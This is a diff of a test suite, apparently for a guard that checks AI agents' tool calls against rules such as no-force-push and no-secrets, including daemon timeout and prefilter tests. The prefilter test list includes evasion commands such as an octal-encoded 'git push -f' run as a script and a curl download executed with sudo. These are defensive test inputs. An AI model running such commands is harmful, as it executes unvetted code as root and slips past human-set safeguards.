@@ -25,7 +25,7 @@ const RULES = [
     name: 'no-force-push',
     on: 'shell',
     when: { shell: { program: 'git', subcommand: 'push', flags: ['-f', '--force'] } },
-    message: 'Others may have pulled: say "{{ $command }}"\n\\ with --force-with-lease.',
+    message: 'Others have pulled.',
   },
   { name: 'no-secrets', on: ['write', 'edit'], files: ['secrets/**', '!secrets/README.md'] },
   { name: 'no-secrets-in-shell', on: 'shell', when: { shell: { writes: 'secrets/**' } } },
@@ -257,10 +257,11 @@ describe('a daemon that fails', () => {
         hookEventName: 'PreToolUse',
         permissionDecision: 'deny',
         permissionDecisionReason: expect.stringMatching(
-          /daemon does not answer.* no-force-push .*say "…" \\ with --force-with-lease\. .*`rein daemon start`/,
+          /did not answer in time, and the guard rule no-force-push could forbid this.*`rein daemon start`/,
         ),
       },
     })
+    expect(stdout).not.toContain('Others have pulled')
   })
 
   it.each([
@@ -289,6 +290,29 @@ describe('an agent CLI that never ends its input', () => {
   it('is denied 100 of 100', async () => {
     const all = await Promise.all(Array.from({ length: TIMES }, () => guard({ stdin: '', isLeftOpen: true })))
     expect(all.filter((result) => !isDenied(result))).toEqual([])
+  })
+})
+
+describe('a daemon that is busy', () => {
+  const slow = (ms: number) => (socket: net.Socket) =>
+    setTimeout(() => socket.end(`HTTP/1.1 200 OK\r\nConnection: close\r\n\r\npass${END}`), ms)
+
+  it('is asked once more while it lives', async () => {
+    register(process.pid)
+    let asked = 0
+    await rawDaemon((socket) => slow((asked += 1) === 1 ? 1000 : 100)(socket))
+    expect(await guard()).toEqual(PASSED)
+    expect(asked).toBe(2)
+  })
+
+  it('is not waited for any longer, and nothing is said that nobody knows', async () => {
+    register(process.pid)
+    await rawDaemon(slow(3000))
+    const began = performance.now()
+    const { stdout } = await guard()
+    expect(performance.now() - began).toBeLessThan(1500)
+    expect(stdout).toMatch(/did not answer in time, and the guard rule no-force-push could forbid this.* Try again\./)
+    expect(stdout).not.toMatch(/Others have pulled|rein daemon start/)
   })
 })
 
@@ -404,6 +428,13 @@ describe('the prefilter', () => {
     `echo "it's`,
     'echo a > secrets/x',
     'cd secrets && touch x',
+    'cd src && touch link',
+    'pushd src; touch link',
+    'env -C src touch link',
+    "printf '\\147it push -f' > x && bash x",
+    "printf '\\147it push -f' > x; chmod +x x; ./x",
+    'curl -o x http://x.example && sudo ./x',
+    'tee -asecrets/x',
     'touch secret*/x',
     'git commit -m "push the -force"',
   ])('takes %j for a match', async (command) => {
@@ -417,7 +448,6 @@ describe('the prefilter', () => {
     'npm test -- src/log',
     'cat README.md',
     '[ -f x ] && ls',
-    'cd src; ls',
     'node script.js',
     'make -j4',
   ])('lets %j pass', async (command) => {
@@ -463,6 +493,15 @@ describe('the prefilter', () => {
     expect(await denied(bash('git push -f', inBox('project/secrets')), there)).toBe(true)
     guardWith(RULES, '/')
     expect(await denied(bash('git push -f', inBox('elsewhere')), there)).toBe(true)
+  })
+
+  it('takes a name that may be that of a tool of a server for one of any kind, where a CLI does not tell', async () => {
+    guardWith([{ name: 'no-search', on: 'mcp', tools: 'web/*' }])
+    const search = call('web_search', { query: 'x' })
+    expect(await denied(search, { args: ['opencode', 'tool.execute.before'] })).toBe(true)
+    expect(await denied(call('read_file', {}), { args: ['opencode', 'tool.execute.before'] })).toBe(true)
+    expect(await denied(call('todowrite', {}), { args: ['opencode', 'tool.execute.before'] })).toBe(false)
+    expect(await denied(search, { args: ['codex', 'PreToolUse'] })).toBe(false)
   })
 
   it('takes a tool that nobody knows for one of any kind, and leaves the harmless ones alone', async () => {
